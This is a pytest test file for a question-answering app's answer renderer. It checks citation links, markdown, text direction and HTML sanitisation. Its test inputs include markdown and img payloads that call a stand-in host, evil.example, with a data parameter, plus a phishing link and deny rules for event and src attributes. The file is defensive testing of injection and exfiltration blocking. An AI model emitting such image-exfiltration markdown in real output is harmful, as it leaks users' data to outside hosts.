import re
from html.parser import HTMLParser

import pytest

from qa import rendering
from qa.models import Citation, Question
from qa.rendering import render_answer, render_markdown
from tests.support.payloads import ALLOWED, SCRIPT


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def citation(number=1, **fields):
    return Citation(
        pk=70 + number,
        number=number,
        document_title='A "B" <c>',
        page=3,
        page_end=3,
        excerpt="x",
        start=0,
        end=1,
        **fields,
    )


ROWS = {1: citation(1), 2: citation(2, is_confirmed=False)}


@pytest.mark.parametrize("payload", SCRIPT)
@pytest.mark.parametrize("kind", ["written", "quoted"])
def test_nothing_a_model_or_a_document_says_becomes_live(payload, kind):
    html = render_answer(
        Question(answer=f"Before {payload} after [1].\n\n{payload}", kind=kind), list(ROWS.values())
    )
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-", "sse-", "style", "src"))
            if name.startswith("hx-"):
                assert (name, value) in {
                    ("hx-get", "/citations/71/"),
                    ("hx-target", "#panel"),
                    ("hx-swap", "innerHTML"),
                }
            if name == "href":
                assert re.match(r"https?://|/citations/71/$", value)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/c?d=canary)",
        "![x][r]\n\n[r]: https://evil.example/c?d=canary",
        "<img src=https://evil.example>",
    ],
)
def test_an_answer_loads_no_picture(text):
    tags = [tag for tag, _ in Elements(render_markdown(text, {})).found]
    assert "img" not in tags


def test_a_foreign_link_tells_its_host_and_passes_nothing_on():
    html = render_markdown("See [our bank](https://phish.example/login).", {})
    ((_, attributes),) = [found for found in Elements(html).found if found[0] == "a"]
    assert set(attributes["rel"].split()) == {"nofollow", "noopener", "noreferrer"}
    assert "(phish.example)" in html


def test_a_number_opens_its_source():
    html = render_markdown("It rains [1].", ROWS)
    assert 'href="/citations/71/"' in html
    assert 'hx-get="/citations/71/"' in html
    assert "A &quot;B&quot; &lt;c&gt;" in html


def test_a_number_without_a_source_is_struck_out():
    html = render_markdown("It rains [9], says [1, 9].", ROWS)
    assert html.count('<s class="cite cite-unknown"') == 2
    assert html.count('href="/citations/71/"') == 1


def test_a_source_without_the_quoted_words_is_marked():
    assert "cite-unconfirmed" in render_markdown("It rains [2].", ROWS)


def test_numbers_in_code_and_in_links_are_text():
    html = render_markdown("`a[1]` and [see [1]](https://a.example)", ROWS)
    assert "/citations/" not in html


def test_quotes_keep_every_sign_of_the_document():
    text = "“*No* [stars](x) & <b>tags</b> as in [1] and 2. more” [1]"
    html = render_answer(Question(answer=text, kind="quoted"), [ROWS[1]])
    assert "*No* [stars](x) &amp; &lt;b&gt;tags&lt;/b&gt; as in [1] and 2. more" in html
    assert html.count('/citations/71/"') == 2


def test_markdown_is_shown_as_such():
    html = render_markdown("# Title\n\n- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |", {})
    assert '<h3 dir="auto">Title</h3>' in html
    assert "<strong>one</strong>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "*a_",
        "> ",
        "- ",
        "`",
        "![](",
        "<a ",
        "[1]",
        "**",
        "a[b](c",
        "&#",
        "\\",
        "| a ",
        "~~",
        "![[",
        "(((",
        "<!--",
        "_*",
        "1. ",
        "\t",
    ],
)
def test_a_long_odd_text_is_rendered_whole_and_without_a_fault(unit):
    # Twenty times this would never end, were the time not in proportion to the length.
    html = render_answer(Question(answer=(unit * 50_000)[:50_000], kind="written"), list(ROWS.values()))
    assert "<script" not in html
    assert "<img" not in html


@pytest.mark.parametrize(
    "block",
    [
        "שלום",
        "# שלום",
        "- שלום\n- world",
        "1. שלום",
        "> שלום",
        "| שלום | b |\n|---|---|\n| 1 | 2 |",
        "    שלום",
        "- a\n\n  שלום",
    ],
)
def test_every_block_of_an_answer_takes_its_own_direction(block):
    html = render_markdown(f"English first.\n\n{block}\n\n[1](http://x.example)", {})
    for words in ("שלום", "world"):
        before = html.partition(words)[0]
        inside = re.sub(r"<(\w+)[^>]*>[^<]*</\1>", "", before.rpartition("English first.</p>")[2])
        assert words not in html or 'dir="auto"' in inside
    assert html.startswith('<p dir="auto">English')


def test_a_quote_takes_the_direction_of_its_words():
    html = render_answer(Question(answer="“שלום עולם” [1]", kind="quoted"), [])
    assert html.startswith('<blockquote dir="auto">')


def test_no_other_direction_can_be_written_into_an_answer():
    html = render_markdown('<p dir="rtl">x</p>', {})
    assert html.startswith('<p dir="auto">&lt;p')
    assert '<p dir="rtl' not in html


def test_under_a_prefix_the_numbers_of_a_written_answer_stay_links(settings):
    settings.URL_PREFIX = "/rag"
    link = '<a class="cite" href="/rag/citations/7/" hx-get="/rag/citations/7/">[1]</a>'
    for attribute in ('href="/rag/citations/7/"', 'hx-get="/rag/citations/7/"'):
        assert attribute in rendering._clean(link)
    assert "href" not in rendering._clean('<a href="/rag/account/logout/">x</a>')
